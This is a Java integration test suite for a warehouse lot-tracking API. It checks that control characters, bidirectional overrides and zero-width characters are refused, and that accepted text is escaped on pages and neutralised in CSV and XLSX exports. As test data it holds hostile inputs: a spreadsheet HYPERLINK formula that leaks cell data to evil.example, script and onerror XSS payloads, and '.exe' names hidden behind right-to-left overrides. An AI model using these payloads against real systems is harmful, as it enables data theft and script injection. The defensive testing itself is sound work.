package io.lotline.web;

import static io.lotline.support.Api.body;
import static io.lotline.support.Api.read;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;

import io.lotline.catalog.Item;
import io.lotline.lots.LotStatus;
import io.lotline.lots.Lots;
import io.lotline.support.Floor;
import io.lotline.support.IntegrationTest;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import tools.jackson.databind.json.JsonMapper;

/**
 * Text that cannot hurt whoever reads it later: codes refuse what is not printable, free text refuses what hides or
 * reorders what people read, supplier lots stay verbatim without control characters, and what is accepted comes out
 * escaped on pages and neutralised in spreadsheets. A refusal names the field, the escaped value and the rule, and
 * books nothing.
 */
class TextSafetyIT extends IntegrationTest {
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    private static final JsonMapper JSON = JsonMapper.builder().build();

    @Autowired
    Lots lots;

    private Floor.Site site;
    private Item flour;
    private String lot;

    @BeforeEach
    void aLotOfFlour() {
        site = floor.aSite();
        flour = floor.anItem().register();
        lot = floor.receive(site, flour, "100", site.rack(), null);
    }

    private static String json(String text) {
        return JSON.writeValueAsString(text);
    }

    private String receipt(String supplierLot, String pallet, String purchaseOrder) {
        return """
                {"supplier": "%s", "purchaseOrder": %s, "lines": [{"sku": "%s", "quantity": {"amount": 5, "unit": "KG"},
                 "supplierLot": %s, "destination": {"location": "%s", "pallet": %s}}]}"""
                .formatted(site.supplier(), json(purchaseOrder), flour.sku(), json(supplierLot), site.dock(),
                        json(pallet));
    }

    private String transfer(String to, String note) {
        return """
                {"lotNumber": "%s", "quantity": {"amount": 1, "unit": "KG"}, "from": {"location": "%s"},
                 "to": {"location": %s}, "note": %s}""".formatted(lot, site.rack(), json(to), json(note));
    }

    private void assertRefused(MvcTestResult answer, String field, String value, String rule) {
        assertThat(answer).hasStatus(HttpStatus.BAD_REQUEST);
        assertThat(answer.getResponse().getContentType()).startsWith(MediaType.APPLICATION_PROBLEM_JSON_VALUE);
        assertThat((String) read(answer, "$.field")).isEqualTo(field);
        assertThat((String) read(answer, "$.value")).isEqualTo(value);
        assertThat((String) read(answer, "$.rule")).isEqualTo(rule);
    }

    @Test
    void a_pallet_code_with_a_nul_character_is_refused_and_nothing_is_booked() {
        long entries = count("ledger_entries");
        long lotsBefore = count("lots");

        MvcTestResult answer = as("operator").post("/api/v1/receipts", receipt("L-1", "PAL\u00001", "PO-1"));

        assertRefused(answer, "lines[0].destination.pallet", "PAL\\u00001", "code-characters");
        assertThat((String) read(answer, "$.detail")).contains("U+0000");
        assertThat(count("ledger_entries")).isEqualTo(entries);
        assertThat(count("lots")).isEqualTo(lotsBefore);
    }

    @Test
    void a_purchase_order_with_a_right_to_left_override_is_refused() {
        long entries = count("ledger_entries");

        MvcTestResult answer = as("operator").post("/api/v1/receipts", receipt("L-1", null, "PO-\u202E1-7"));

        assertRefused(answer, "purchaseOrder", "PO-\\u202E1-7", "code-characters");
        assertThat(count("ledger_entries")).isEqualTo(entries);
    }

    @Test
    void a_location_code_with_a_zero_width_space_is_refused_and_nothing_moves() {
        long entries = count("ledger_entries");

        MvcTestResult answer = as("operator").post("/api/v1/transfers", transfer(site.dock() + "\u200B", "moved"));

        assertRefused(answer, "to.location", site.dock() + "\\u200B", "code-characters");
        assertThat(count("ledger_entries")).isEqualTo(entries);
    }

    @Test
    void a_party_name_with_a_zero_width_joiner_is_refused_and_no_party_is_registered() {
        long parties = count("parties");

        MvcTestResult answer = as("supervisor").post("/api/v1/parties", """
                {"code": "CUS-Z%d", "role": "CUSTOMER", "name": "Sh\\u200Dop"}""".formatted(Floor.next()));

        assertRefused(answer, "name", "Sh\\u200Dop", "free-text-characters");
        assertThat(count("parties")).isEqualTo(parties);
    }

    @Test
    void a_note_with_a_bidirectional_override_is_refused_and_nothing_moves() {
        long entries = count("ledger_entries");

        MvcTestResult answer = as("operator").post("/api/v1/transfers",
                transfer(site.dock(), "ok \u202Egnp.exe"));

        assertRefused(answer, "note", "ok \\u202Egnp.exe", "free-text-characters");
        assertThat((String) read(answer, "$.detail")).contains("U+202E (right-to-left override) at position 4");
        assertThat(count("ledger_entries")).isEqualTo(entries);
    }

    @Test
    void a_hold_reason_with_a_control_character_is_refused_and_the_lot_stays_released() {
        MvcTestResult answer = as("quality").post("/api/v1/lots/" + lot + "/status", """
                {"status": "ON_HOLD", "reason": "Suspect\\u001b[2J"}""");

        assertRefused(answer, "reason", "Suspect\\u001B[2J", "free-text-characters");
        assertThat(lots.lot(lot).status()).isNotEqualTo(LotStatus.ON_HOLD);
    }

    @Test
    void an_idempotency_key_with_a_tab_is_refused_and_nothing_moves() {
        long entries = count("ledger_entries");

        MvcTestResult answer = as("operator").post("/api/v1/transfers", "key\t1", transfer(site.dock(), "moved"));

        assertRefused(answer, "Idempotency-Key", "key\\u00091", "code-characters");
        assertThat(count("ledger_entries")).isEqualTo(entries);
    }

    @Test
    void an_unknown_lot_asked_for_with_a_hidden_character_is_named_escaped() {
        MvcTestResult answer = as("quality").get("/api/v1/lots/L-\u202E7");

        assertThat(answer).hasStatus(HttpStatus.NOT_FOUND);
        assertThat(body(answer)).doesNotContain("\u202E").contains("L-\\\\u202E7");
    }

    @Test
    void a_note_over_several_lines_is_accepted() {
        assertThat(as("operator").post("/api/v1/transfers", transfer(site.dock(), "Sacks torn\n\tsee photo")))
                .hasStatus2xxSuccessful();
    }

    @Test
    void a_supplier_lot_with_a_control_character_is_refused_and_nothing_is_booked() {
        long entries = count("ledger_entries");

        MvcTestResult answer = as("operator").post("/api/v1/receipts", receipt("L\u00077", null, null));

        assertRefused(answer, "lines[0].supplierLot", "L\\u00077", "supplier-lot-characters");
        assertThat(count("ledger_entries")).isEqualTo(entries);
    }

    @Test
    void a_supplier_lot_that_reads_as_a_formula_is_kept_verbatim_and_neutralised_in_the_fsma_204_csv_and_xlsx()
            throws Exception {
        MvcTestResult received = as("operator").post("/api/v1/receipts", receipt(FORMULA, null, "PO-7"));
        assertThat(received).hasStatus2xxSuccessful();
        String formulaLot = read(received, "$.lots[0].lotNumber");
        assertThat((String) read(as("quality").get("/api/v1/lots/" + formulaLot), "$.lot.supplierLot"))
                .isEqualTo(FORMULA);
        String today = LocalDate.now().toString();
        String query = "?sku=" + flour.sku() + "&from=" + today + "&to=" + today;

        byte[] csv = as("compliance").get("/api/v1/exports/fsma204.csv" + query).getResponse()
                .getContentAsByteArray();
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().get()
                .parse(new StringReader(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8))).getRecords();
        assertThat(rows).extracting(row -> row.get("Traceability Lot Code")).contains("'" + FORMULA)
                .doesNotContain(FORMULA);

        MvcTestResult xlsx = as("compliance").get("/api/v1/exports/fsma204.xlsx" + query);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(
                xlsx.getResponse().getContentAsByteArray()))) {
            XSSFSheet sheet = workbook.getSheetAt(0);
            List<XSSFCell> tlcs = new java.util.ArrayList<>();
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                tlcs.add(sheet.getRow(r).getCell(4));
            }
            assertThat(tlcs).allSatisfy(cell -> assertThat(cell.getCellType()).isEqualTo(CellType.STRING));
            assertThat(tlcs).extracting(XSSFCell::getStringCellValue).contains("'" + FORMULA)
                    .doesNotContain(FORMULA);
        }
    }

    @Test
    void a_script_in_a_name_and_a_reason_is_shown_escaped_on_the_lot_page() {
        Item scripted = floor.anItem().describedAs("<script>alert('item')</script>Flour").register();
        String scriptedLot = floor.receive(site, scripted, "10", site.rack(), null);
        assertThat(as("quality").post("/api/v1/lots/" + scriptedLot + "/status", """
                {"status": "ON_HOLD", "reason": "<img src=x onerror=alert(1)><script>alert('reason')</script>"}"""))
                .hasStatus2xxSuccessful();

        MvcTestResult page = mvc.get().uri("/lots/" + scriptedLot).with(user("quality").roles("QUALITY")).exchange();

        assertThat(page).hasStatusOk();
        assertThat(body(page))
                .contains("&lt;script&gt;alert(&#39;item&#39;)&lt;/script&gt;Flour")
                .contains("&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(&#39;reason&#39;)&lt;/script&gt;")
                .doesNotContain("<script>alert").doesNotContain("<img src=x");
    }

    @Test
    void a_document_whose_file_name_hides_its_extension_behind_a_right_to_left_override_is_refused() {
        byte[] pdf = "%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
        long documents = count("lot_documents");

        MvcTestResult answer = mvc.post().uri("/api/v1/lots/" + lot + "/documents").multipart()
                .file(new MockMultipartFile("file", "coa-\u202Efdp.exe", "application/pdf", pdf))
                .param("kind", "COA").with(httpBasic("quality", PASSWORD)).exchange();

        assertRefused(answer, "file", "coa-\\u202Efdp.exe", "code-characters");
        assertThat(count("lot_documents")).isEqualTo(documents);
    }

    @Test
    void the_api_description_names_the_text_rule_of_text_properties() {
        MvcTestResult docs = as("admin").get("/v3/api-docs");

        assertThat((String) read(docs, "$.components.schemas.TransferStock.properties.note['x-text-rule']"))
                .isEqualTo("free-text-characters");
        assertThat((String) read(docs, "$.components.schemas.Place.properties.pallet['x-text-rule']"))
                .isEqualTo("code-characters");
        assertThat((String) read(docs, "$.components.schemas.Line.properties.supplierLot['x-text-rule']"))
                .isEqualTo("supplier-lot-characters");
        assertThat((String) read(docs, "$.components.schemas.Line.properties.supplierLot.description"))
                .contains("verbatim");
    }

    @Test
    void a_hold_reason_with_a_bidirectional_isolate_is_refused_on_the_lot_page_beside_its_field() {
        MvcTestResult refused = mvc.post().uri("/lots/" + lot + "/hold").with(user("quality").roles("QUALITY"))
                .with(csrf()).param("idempotencyKey", "k-" + UUID.randomUUID())
                .param("reason", "Suspect \u2067hidden\u2069").exchange();

        assertThat(refused).hasStatus(HttpStatus.BAD_REQUEST);
        assertThat(body(refused)).contains("id=\"reason-error\"").contains("U+2067");
        assertThat(lots.lot(lot).status()).isNotEqualTo(LotStatus.ON_HOLD);
    }
}
